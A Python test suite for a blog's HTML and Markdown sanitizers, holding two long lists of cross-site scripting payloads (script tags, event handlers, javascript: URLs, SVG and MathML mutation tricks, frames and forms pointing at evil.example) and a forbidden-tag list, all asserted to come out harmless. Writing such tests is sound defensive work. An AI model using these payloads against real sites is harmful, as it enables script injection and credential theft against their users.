"""Nothing that runs, phones home or reaches into the page gets through the sanitizing door."""

import re
from collections.abc import Callable
from html.parser import HTMLParser

import pytest

from apps.posts.rendering.comment_markdown import render_comment
from apps.posts.rendering.markdown import render
from apps.posts.rendering.sanitize import clean_comment, clean_fragment, clean_post

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="javascript:alert(1)">',
    '<img src="x" srcset="javascript:alert(1) 1x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="java&#9;script:alert(1)">x</a>',
    '<a href="java&#1;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "<svg onload=alert(1)><circle/></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math href="javascript:alert(1)"><mi>x</mi></math>',
    '<math><mi xlink:href="javascript:alert(1)" style="color:red">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<template><script>alert(1)</script></template>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<applet code="Evil"></applet>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://evil.example)}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<input type="text" autofocus onfocus=alert(1)>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<select><option onclick=alert(1)>x</option></select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<video src="x" onerror=alert(1) poster="javascript:alert(1)"></video>',
    '<video><source onerror="alert(1)" src="javascript:alert(1)"></video>',
    '<audio src="data:audio/mp3;base64,AAAA" autoplay></audio>',
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<p id="config" name="config">x</p>',
    '<img name="cookie" id="currentScript">',
    '<a id="defaultView" name="forms" href="https://a.example">x</a>',
    '"><img src=x onerror=alert(1)>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<plaintext><script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "\ud800<img src=x onerror=alert(1)>",
    '<a href="https://a.example" target="_blank" rel="opener">x</a>',
    '<portal src="https://evil.example"></portal><slot name="x"></slot><dialog open>x</dialog>',
]

FORBIDDEN_TAGS = set(
    "script style iframe frame object embed applet base meta link form button select textarea svg template noscript"
    " annotation-xml title xmp plaintext dialog marquee portal slot body html head picture".split()
)
URL_ATTRIBUTES = {"href", "src", "poster", "action", "formaction", "data", "xlink:href"}


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def _tags(html: str) -> list[tuple[str, dict[str, str]]]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.tags


def _assert_harmless(html: str) -> None:
    for tag, attributes in _tags(html):
        assert tag not in FORBIDDEN_TAGS
        for name, value in attributes.items():
            assert not name.startswith("on")
            assert name not in ("style", "srcset", "srcdoc", "target", "action", "formaction", "autofocus", "autoplay")
            if name in URL_ATTRIBUTES:
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", value).lower())
                assert not scheme or scheme[1] in ("http", "https", "mailto", "tel")
            if name in ("id", "name"):
                assert value.startswith(("h-", "fn-", "fnref-"))
        if tag == "input":
            assert attributes["type"] == "checkbox"
            assert "disabled" in attributes


@pytest.mark.parametrize("clean", [clean_post, clean_comment, clean_fragment, lambda s: render(s).html, render_comment])
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_html_is_harmless(clean: Callable[[str], str], hostile: str) -> None:
    for html in (hostile, f"<div><p>{hostile}", f"<table><tr><td>{hostile}</table>", f"<math><mtext>{hostile}"):
        _assert_harmless(clean(html))


@pytest.mark.parametrize("clean", [clean_post, clean_comment, clean_fragment])
@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_what_is_clean_stays_as_it_is_when_read_again(clean: Callable[[str], str], hostile: str) -> None:
    once = clean(hostile)
    assert clean(once) == once


HOSTILE_MARKDOWN = [
    "<script>x</script ><script>alert(1)</script>",
    "<style> a <img src=x onerror=alert(1)>\n\n</style>",
    "<script>\n<!--\n</script><img src=x onerror=alert(1)>-->",
    "<iframe src=x><img src=x onerror=alert(1)>\n\n</iframe>",
    "<b title='<script>alert(1)</script>'>x</b><i title=\"</i><img src=x onerror=alert(1)>\">x</i>",
    "<div>\n<!-- > --><img src=x onerror=alert(1)>\n<svg x onload=alert(1)></svg>\n</div>",
    "<a href=`javascript:alert(1)`>x</a> <a/href=javascript:alert(1)>x</a> <img src=x/onerror=alert(1)/>",
    "<math><mi>x<table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mi></math>",
    "<math><annotation encoding=text/html><img src=x onerror=alert(1)></annotation><mi>x</mi></math>",
    "<pre>\n</pre\n><script>alert(1)</script>\n</pre>",
    "<div><!--><script>alert(1)</script>--><!--->-><img src=x onerror=alert(1)></div>",
    "<![CDATA[><img src=x onerror=alert(1)>]]> <?><img src=x onerror=alert(1)>?> <!x><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( javascript&colon;alert(1) )",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](x.png '\" onerror=\"alert(1)')",
    '![" onerror="alert(1)](x.png)',
    "![x](x.png '<script>alert(1)</script>')",
    '```"><script>alert(1)</script>\nx\n```',
    '```js title="<img src=x onerror=alert(1)>"\nx\n```',
    "```mermaid\n</code></pre><script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\style{position:fixed}{x}$",
    r"$\unknown{</math><img src=x onerror=alert(1)>}$",
    "$\\frac{<script>alert(1)</script>$",
    '# x" onclick="alert(1)\n\n# <img src=x onerror=alert(1)>',
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("markdown", HOSTILE_MARKDOWN)
def test_markdown_opens_no_back_door(markdown: str) -> None:
    _assert_harmless(render(markdown).html)
    _assert_harmless(render_comment(markdown))


def test_ordinary_html_of_an_author_is_kept() -> None:
    html = (
        '<figure><figcaption>C</figcaption></figure><details open=""><summary>S</summary>D</details>'
        "<kbd>K</kbd><mark>M</mark><sub>1</sub><sup>2</sup><ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"
        '<abbr title="A">a</abbr><dl><dt>t</dt><dd>d</dd></dl><section><aside>x</aside></section>'
        '<table><tbody><tr><td colspan="2">c</td></tr></tbody></table>'
    )
    assert clean_post(html) == html


def test_images_load_late_and_media_show_their_controls() -> None:
    assert clean_post('<img src="/a.png" alt="A" width="50%" height="9">') == (
        '<img loading="lazy" decoding="async" src="/a.png" alt="A" width="50%" height="9">'
    )
    assert clean_post('<video src="https://a.example/v.mp4" autoplay></video>') == (
        '<video controls="" preload="metadata" src="https://a.example/v.mp4"></video>'
    )


def test_a_formula_written_by_hand_is_kept() -> None:
    html = '<math display="block"><mfrac linethickness="0"><mi mathvariant="normal">a</mi><mn>2</mn></mfrac></math>'
    assert clean_post(html) == html


def test_classes_are_those_the_site_knows() -> None:
    assert clean_post('<code class="language-c++ admin evil">x</code>') == '<code class="language-c++">x</code>'
    assert clean_post('<p class="navbar">x</p>') == "<p>x</p>"


def test_only_task_boxes_remain_of_inputs() -> None:
    assert clean_post('<input type="text"><input type="checkbox">') == ""
    box = clean_post('<input class="task-list-item-checkbox" type="text" checked>')
    assert 'type="checkbox"' in box
    assert 'disabled=""' in box


def test_ids_are_prefixed_and_links_follow_them() -> None:
    html = clean_post(
        '<p id="配置">x</p><a href="#%E9%85%8D%E7%BD%AE">a</a><a href="#配置">b</a><a href="#comments">c</a>'
    )
    assert html == '<p id="h-配置">x</p><a href="#h-配置">a</a><a href="#h-配置">b</a><a href="#comments">c</a>'
    assert clean_post('<a href="#top">x</a>') == '<a href="#top" rel="noopener">x</a>'
    assert "id=" not in clean_fragment('<p id="x"><a name="y">z</a>')


def test_links_out_are_told_nothing() -> None:
    assert clean_post('<a href="https://a.example" target="_blank" rel="opener">x</a>') == (
        '<a href="https://a.example" rel="noopener">x</a>'
    )
    assert clean_comment('<a href="https://a.example" rel="follow">x</a>') == (
        '<a href="https://a.example" rel="nofollow ugc noopener">x</a>'
    )


def test_a_comment_keeps_its_small_set() -> None:
    html = clean_comment(
        '<h1>T</h1><p class="x">a <img src="/x.png"><strong>b</strong></p><table><tr><td>c</td></tr></table>'
    )
    assert html == "T<p>a <strong>b</strong></p>c"


def test_characters_no_feed_can_carry_are_replaced() -> None:
    assert clean_post("a\x00b&#8;c\ufffed") == "a\ufffdb\ufffdc\ufffdd"


@pytest.mark.parametrize("unit", ["<div>", "<ul><li>", "<i><div>", "<b class=c>", "<math><mrow>", "<details>"])
def test_nesting_without_end_comes_back_as_text(unit: str) -> None:
    html = clean_post(unit * 50_000)
    assert _tags(html) == []
    assert html.startswith("&lt;")
